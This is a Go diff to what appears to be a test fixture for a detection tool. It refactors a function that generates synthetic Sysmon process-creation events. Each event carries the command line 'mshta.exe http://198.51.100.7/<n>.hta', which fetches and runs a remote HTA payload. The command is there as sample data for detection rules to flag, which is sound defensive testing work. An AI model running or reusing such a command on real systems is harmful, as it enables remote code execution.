@@ -27,9 +27,15 @@ import (
 
 // attack is a record that one of the own rules finds; attacks on a host are one case.
 func attack(i int) string {
+	n := i % attackHosts
+	return attackOn(fmt.Sprintf("ws%d", n), fmt.Sprintf("m.weber%d", n), i)
+}
+
+// attackOn is such a record about a host and a user.
+func attackOn(host, user string, i int) string {
 	return fmt.Sprintf(`{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","SourceName":"Microsoft-Windows-Sysmon",`+
-		`"Hostname":"ws%[1]d.corp.example","UtcTime":"2026-03-02 09:14:%02[2]d","Image":"C:\\Windows\\System32\\mshta.exe",`+
-		`"CommandLine":"mshta.exe http://198.51.100.7/%[3]d.hta","ParentImage":"C:\\Windows\\explorer.exe","User":"CORP\\m.weber%[1]d"}`, i%attackHosts, i%60, i)
+		`"Hostname":"%s.corp.example","UtcTime":"2026-03-02 09:14:%02d","Image":"C:\\Windows\\System32\\mshta.exe",`+
+		`"CommandLine":"mshta.exe http://198.51.100.7/%d.hta","ParentImage":"C:\\Windows\\explorer.exe","User":"CORP\\%s"}`, host, i%60, i, user)
 }
 
 const (
